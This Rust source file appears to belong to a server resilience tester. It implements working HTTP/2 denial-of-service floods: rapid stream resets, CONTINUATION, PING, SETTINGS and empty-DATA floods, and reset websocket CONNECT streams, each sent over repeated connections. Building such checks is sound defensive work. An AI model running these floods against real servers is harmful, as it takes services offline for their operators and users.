//! Floods by HTTP/2 with prior knowledge. A connection that the server ends is followed by another.

use std::io;

use super::{Attacker, Open, Sent, Target, longpoll};
use crate::wire::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    frame,
};

/// Connections, one after the other.
const CONNECTIONS: usize = 20;
/// Frames on each of them, if the server takes so many.
const FRAMES: u32 = 100_000;
/// Frames in one write.
const BATCH: u32 = 100;

const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) async fn resets(target: &Target) -> io::Result<Open> {
    let head = head(&request(target, "GET", "/"));
    flood(target, &[], |n| reset_at_once(n, END_STREAM, &head)).await
}

pub(super) async fn sockets(target: &Target) -> io::Result<Open> {
    let path = format!("{}/websocket", target.raw);
    let mut fields = request(target, "CONNECT", &path);
    fields.push((":protocol", "websocket".to_owned()));
    fields.push(("sec-websocket-version", "13".to_owned()));
    let head = head(&fields);
    flood(target, &[], |n| reset_at_once(n, 0, &head)).await
}

pub(super) async fn heads(target: &Target) -> io::Result<Open> {
    let begun = frame(HEADERS, END_STREAM, 1, &head(&request(target, "GET", "/")));
    let more = frame(CONTINUATION, 0, 1, &literal("x", &"y".repeat(1_000)));
    flood(target, &begun, |_| more.clone()).await
}

pub(super) async fn pings(target: &Target) -> io::Result<Open> {
    let ping = frame(PING, 0, 0, b"12345678");
    flood(target, &[], |_| ping.clone()).await
}

pub(super) async fn settings(target: &Target) -> io::Result<Open> {
    // The size of the header table, large and small in turn.
    flood(target, &[], |n| {
        let size = if n.is_multiple_of(2) { 0_u32 } else { 65_536 };
        frame(SETTINGS, 0, 0, &[&[0, 1], &size.to_be_bytes()[..]].concat())
    })
    .await
}

pub(super) async fn data(target: &Target) -> io::Result<Open> {
    let token = longpoll::hanging(target).await?;
    let path = format!("{}/longpoll?token={token}", target.raw);
    let begun = frame(
        HEADERS,
        END_HEADERS,
        1,
        &head(&request(target, "POST", &path)),
    );
    let empty = frame(DATA, 0, 1, &[]);
    flood(target, &begun, |_| empty.clone()).await
}

fn reset_at_once(n: u32, flags: u8, head: &[u8]) -> Vec<u8> {
    let mut both = frame(HEADERS, END_HEADERS | flags, n * 2 + 1, head);
    both.extend(frame(RST_STREAM, 0, n * 2 + 1, &CANCEL));
    both
}

/// Sends frames until the server ends the connection, and begins again.
async fn flood(target: &Target, begun: &[u8], next: impl Fn(u32) -> Vec<u8>) -> io::Result<Open> {
    let (mut attackers, mut closed) = (Vec::new(), 0);
    for _ in 0..CONNECTIONS {
        let mut attacker = Attacker::open(target.address).await?;
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[]), begun].concat();
        let mut sent = attacker.send_and_read(&hello).await;
        for first in (0..FRAMES).step_by(BATCH as usize) {
            if sent != Sent::All {
                break;
            }
            let batch: Vec<u8> = (first..first + BATCH).flat_map(&next).collect();
            sent = attacker.send_and_read(&batch).await;
        }
        closed += usize::from(sent == Sent::Closed);
        attackers.push(attacker);
    }
    Ok(Open {
        verdict: format!("closed {closed} of {CONNECTIONS} connections"),
        attackers,
    })
}

fn request(target: &Target, method: &str, path: &str) -> Vec<(&'static str, String)> {
    let authority = target.address.to_string();
    [
        (":method", method.to_owned()),
        (":scheme", "http".to_owned()),
        (":path", path.to_owned()),
        (":authority", authority),
    ]
    .into()
}

fn head(fields: &[(&str, String)]) -> Vec<u8> {
    let fields = fields.iter();
    fields
        .flat_map(|(name, value)| literal(name, value))
        .collect()
}

/// A field that goes into no table (RFC 7541, 6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0], &*text(name), &*text(value)].concat()
}

fn text(text: &str) -> Vec<u8> {
    let mut encoded = Vec::new();
    // An integer with a prefix of 7 bits (RFC 7541, 5.1).
    match text.len() {
        short @ 0..127 => encoded.push(short as u8),
        long => {
            encoded.push(127);
            let mut left = long - 127;
            while left >= 128 {
                encoded.push((left % 128) as u8 | 128);
                left /= 128;
            }
            encoded.push(left as u8);
        }
    }
    encoded.extend(text.bytes());
    encoded
}
